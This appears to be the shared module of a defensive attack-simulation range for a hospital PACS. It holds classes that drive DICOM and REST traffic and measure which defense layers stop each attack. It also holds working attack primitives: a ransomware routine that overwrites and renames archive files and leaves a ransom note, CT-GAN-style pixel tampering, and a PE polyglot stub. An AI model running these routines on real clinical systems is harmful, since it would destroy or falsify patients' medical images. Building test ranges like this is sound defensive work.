"""What every attack module uses: :class:`Attack` (the description), :class:`Outcome` (the measured
result) and :class:`Context` (the range as the attacker reaches it, with layers switched off or on).

The front door of the PACS is the gateway; with the ``gateway`` layer switched off an attacker
reaches the PACS directly (as on a flat network without the gateway).
"""

from __future__ import annotations

import functools
import hashlib
import json
import os
import shutil
import tempfile
import time
import urllib.error
import urllib.request
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from radguard.range.lab import dcmtk
from radguard.range.state import RangeState

#: every layer of defense the range can switch off (TLS is not deployed in the range: attacks that only
#: TLS would stop are measured as gaps)
LAYERS: tuple[str, ...] = ("gateway", "monitor", "seal+audit", "canaries", "backups", "tls", "decoy")
#: layers present in the range (TLS: the gateway's DICOM TLS listener, which the department's modalities use)
DEPLOYED: tuple[str, ...] = ("gateway", "monitor", "seal+audit", "canaries", "backups", "tls", "decoy")
#: a minimal PE header (DOS stub pointing at a PE signature): what an executable polyglot carries
PE_STUB = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"


@dataclass
class Outcome:
    """The attacker's objective, measured: ``success`` and the impact counts behind it."""

    success: bool
    impact: dict[str, int] = field(default_factory=dict)
    note: str = ""
    #: layers that stopped the attack without raising an alert, shown by the attacker's own measurement (TLS:
    #: the sniffer read encrypted records on the segment and no PHI); counted only while the layer is on
    blocked_by: tuple[str, ...] = ()


@dataclass(frozen=True)
class Attack:
    """One attack of the library.

    Attributes
    ----------
    layers
        The layers expected to stop or see it (a subset of :data:`LAYERS`); empty for a known gap.
    archive
        It acts on the sealed file archive: the runner audits the archive after it (seal+audit,
        canaries) and recovers it from the backup (backups).
    noisy
        Its traffic would linger in the monitor's sliding windows (a flood): the runner restarts the
        monitor after it, so later attacks are not credited with its alerts.
    """

    name: str
    title: str
    attack_ids: tuple[str, ...]
    precondition: str
    objective: str
    layers: tuple[str, ...]
    run: Callable[[Context], Outcome]
    archive: bool = False
    noisy: bool = False

    def describe(self) -> dict[str, Any]:
        return {"attack": self.name, "title": self.title, "attack_ids": list(self.attack_ids),
                "precondition": self.precondition, "objective": self.objective,
                "expected_layers": list(self.layers)}


class Context:
    """The range as an attacker sees it, for one run of one attack."""

    def __init__(self, state: RangeState, off: frozenset[str], work: Path) -> None:
        self.st = state
        self.off = off
        self.work = work
        #: undo steps an attack registers for what the pristine copy does not restore (e.g. the store)
        self.cleanups: list[Callable[[], None]] = []

    # ------------------------------------------------------------------ the front door
    @property
    def gateway_on(self) -> bool:
        return "gateway" not in self.off

    @property
    def front(self) -> tuple[str, int, str]:
        """(host, port, called AE) of the PACS as reached from the department network."""
        if self.gateway_on:
            return self.st.host, self.st.gateway_port, self.st.gateway_ae
        return self.st.host, self.st.pacs_port, self.st.pacs_ae

    @property
    def tls_on(self) -> bool:
        """The department's modalities store over DICOM TLS to the gateway (which terminates it)."""
        return self.gateway_on and "tls" not in self.off and bool(self.st.gateway_tls_port)

    @property
    def modality_port(self) -> int:
        """The port the department's modalities send to: where their traffic crosses the network segment."""
        if self.tls_on:
            return self.st.gateway_tls_port
        return self.front[1]

    def modality_store(self, calling: str, files: list[Path]) -> bool:
        """A department modality storing, as it does all day: over DICOM TLS with its client certificate when the
        TLS layer is on, in clear to the front door otherwise."""
        if not self.tls_on:
            return self.store(calling, files)
        from radguard.range.pki import load_pki

        pki = load_pki(Path(self.st.tls_dir))
        r = dcmtk(["storescu", "+tls", str(pki.client_key), str(pki.client_cert), "+cf", str(pki.ca),
                   "-aet", calling, "-aec", self.st.gateway_ae, self.st.host, str(self.st.gateway_tls_port),
                   *map(str, files)])
        return r.returncode == 0

    def store(self, calling: str, files: list[Path], called: str | None = None) -> bool:
        host, port, ae = self.front
        r = dcmtk(["storescu", "-aet", calling, "-aec", called or ae, host, str(port), *map(str, files)])
        return r.returncode == 0

    def store_dataset(self, calling: str, ds: Any, name: str) -> bool:
        """Write the pydicom Dataset ``ds`` as the Part 10 file ``name`` and C-STORE it as ``calling``."""
        path = self.tmpdir() / name
        ds.save_as(path, enforce_file_format=True)
        return self.store(calling, [path])

    def endpoints(self) -> list[tuple[str, int, str]]:
        """(host, port, called AE) of every DICOM service an attacker finds listening in the department: the
        PACS's front door, the archive and, when deployed, the decoy (an attacker cannot tell it apart)."""
        st = self.st
        found = [self.front, (st.host, st.archive_port, st.archive_ae)]
        if st.decoy_port:
            found.append((st.host, st.decoy_port, "ANY-SCP"))
        return found

    def echo(self, calling: str, at: tuple[str, int, str] | None = None) -> bool:
        host, port, ae = at or self.front
        return dcmtk(["echoscu", "-aet", calling, "-aec", ae, host, str(port)]).returncode == 0

    def find(self, calling: str, keys: list[str], level: str = "STUDY", at: tuple[str, int, str] | None = None) -> int:
        """Matches a C-FIND returned (pending responses); ``at``: another endpoint than the front door."""
        host, port, ae = at or self.front
        args = ["findscu", "-v", "-S", "-aet", calling, "-aec", ae, "-k", f"QueryRetrieveLevel={level}"]
        for k in keys:
            args += ["-k", k]
        r = dcmtk([*args, host, str(port)])
        return (r.stdout + r.stderr).count("(Pending)")

    def move(self, calling: str, dest: str, studies: list[str]) -> bool:
        host, port, ae = self.front
        r = dcmtk(["movescu", "-S", "-aet", calling, "-aec", ae, "-aem", dest, "-k", "QueryRetrieveLevel=STUDY",
                   "-k", "StudyInstanceUID=" + "\\".join(studies), host, str(port)], timeout=60)
        return r.returncode == 0

    def get(self, calling: str, studies: list[str], out: Path) -> int:
        """Objects received by a C-GET of ``studies`` into ``out``."""
        host, port, ae = self.front
        out.mkdir(parents=True, exist_ok=True)
        dcmtk(["getscu", "-S", "-aet", calling, "-aec", ae, "-od", str(out), "-k", "QueryRetrieveLevel=STUDY",
               "-k", "StudyInstanceUID=" + "\\".join(studies), host, str(port)], timeout=60)
        return sum(1 for p in out.iterdir() if p.is_file())

    # ------------------------------------------------------------------ the PACS's web side
    def rest(self, method: str, path: str, body: bytes | None = None,
             auth: tuple[str, str] | None = None, headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        req = urllib.request.Request(f"http://{self.st.host}:{self.st.pacs_http_port}{path}", data=body,
                                     method=method, headers=headers or {})
        if auth:
            req.add_header("Authorization", "Basic " + b64encode(f"{auth[0]}:{auth[1]}".encode()).decode())
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:
                return int(resp.status), resp.read()
        except urllib.error.HTTPError as exc:
            return int(exc.code), b""
        except OSError:
            return 0, b""

    @functools.cached_property
    def dicomweb(self) -> bool:
        """Whether the PACS answers DICOMweb (QIDO-RS) at ``/dicom-web/`` (Orthanc's DICOMweb plugin)."""
        return self.rest("GET", "/dicom-web/studies?limit=1")[0] == 200

    def rest_json(self, path: str) -> Any:
        code, body = self.rest("GET", path)
        return json.loads(body) if code == 200 and body else None

    def pacs_studies(self, honeytokens: bool = False) -> list[str]:
        """Study Instance UIDs the PACS holds (the defender's view, for measuring); the planted honeytoken
        studies only with ``honeytokens`` (the attacks written for them touch them, the others do not)."""
        uids = []
        for sid in self.rest_json("/studies") or []:
            doc = self.rest_json(f"/studies/{sid}") or {}
            uid = doc.get("MainDicomTags", {}).get("StudyInstanceUID")
            if uid and (honeytokens or uid not in self.st.honeytoken_studies):
                uids.append(str(uid))
        return uids

    def _lookup(self, sop_uid: str) -> list[str]:
        code, body = self.rest("POST", "/tools/lookup", sop_uid.encode())
        if code != 200:
            return []
        return [str(x["ID"]) for x in json.loads(body or b"[]") if x.get("Type") == "Instance"]

    def pacs_has(self, sop_uid: str) -> bool:
        """Whether the PACS holds the object; an object an attack planted is deleted after the run."""
        found = self._lookup(sop_uid)
        for iid in found:
            self.cleanups.append(functools.partial(self._delete, iid))
        return bool(found)

    def _delete(self, instance_id: str) -> None:
        self.rest("DELETE", f"/instances/{instance_id}")

    # ------------------------------------------------------------------ stores and archives
    def count_files(self, folder: str | Path) -> int:
        return sum(1 for p in Path(folder).rglob("*") if p.is_file())

    @property
    def archive(self) -> Path:
        return Path(self.st.archive_dir)

    @property
    def backup(self) -> Path:
        return Path(self.st.backup_dir)

    def archive_files(self) -> list[Path]:
        """The sealed objects (canaries included: an attacker cannot tell them apart)."""
        return sorted(p for p in self.archive.rglob("*.dcm") if not any(s.startswith(".radguard") for s in p.parts))

    def sample(self, name: str = "CT_small.dcm") -> Any:
        """A copy of a bundled image with fresh UIDs (a pydicom Dataset)."""
        import pydicom
        from pydicom.uid import generate_uid

        from radguard.range.samples import bundled

        ds = pydicom.dcmread(bundled(name))
        ds.SOPInstanceUID = generate_uid()
        ds.file_meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
        return ds

    def tmpdir(self) -> Path:
        return Path(tempfile.mkdtemp(prefix="attack-", dir=self.work))

    def wait(self, seconds: float) -> None:
        time.sleep(seconds)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tamper_pixels(path: Path) -> None:
    """CT-GAN style: flip a block of pixel bytes, leave every header attribute intact."""
    import pydicom

    ds = pydicom.dcmread(path)
    arr = bytearray(ds.PixelData)
    mid = len(arr) // 2
    arr[mid: mid + 256] = bytes(b ^ 0x5A for b in arr[mid: mid + 256])
    ds.PixelData = bytes(arr)
    ds.save_as(path)


def pixel_files(files: list[Path]) -> list[Path]:
    """The uncompressed images among ``files`` (a CT-GAN edit needs native pixels)."""
    import pydicom

    out = []
    for f in files:
        try:
            ds = pydicom.dcmread(f, stop_before_pixels=True)
        except Exception:
            continue
        if not ds.file_meta.TransferSyntaxUID.is_compressed and "DECOY" not in str(ds.get("PatientName", "")):
            out.append(f)
    return out


def encrypt(path: Path, mode: str) -> None:
    """Ransomware: ``full`` (every byte), ``intermittent`` (every other 4 KiB block) or ``header``
    (the first 1 KiB, the Part 10 header, left readable); the file gets a ``.locked`` suffix."""
    data = bytearray(path.read_bytes())
    if mode == "full":
        data[:] = os.urandom(len(data))
    elif mode == "intermittent":
        for off in range(0, len(data), 8192):
            block = data[off: off + 4096]
            data[off: off + len(block)] = os.urandom(len(block))
    else:
        tail = len(data) - 1024
        if tail > 0:
            data[1024:] = os.urandom(tail)
    path.write_bytes(bytes(data))
    path.rename(path.with_suffix(path.suffix + ".locked"))


def stored_outcome(stored: bool, *, yes: str, no: str) -> Outcome:
    """The objective "an object stored in the PACS": ``objects_stored`` is 1 or 0, the note ``yes`` or ``no``."""
    return Outcome(success=stored, impact={"objects_stored": int(stored)}, note=yes if stored else no)


def ransom(ctx: Context, mode: str) -> Outcome:
    """Encrypt every object of the archive copy (canaries included) and leave a ransom note."""
    files = ctx.archive_files()
    for f in files:
        encrypt(f, mode)
    (ctx.archive / "HOW_TO_DECRYPT.txt").write_text("Your images are encrypted. (radguard range: a drill)\n")
    left = len(ctx.archive_files())
    return Outcome(success=bool(files) and left == 0, impact={"objects_altered": len(files)},
                   note=f"{len(files)} objects encrypted ({mode}), ransom note left")


def copy_tree(src: Path, dst: Path) -> None:
    shutil.rmtree(dst, ignore_errors=True)
    shutil.copytree(src, dst, copy_function=shutil.copy2)
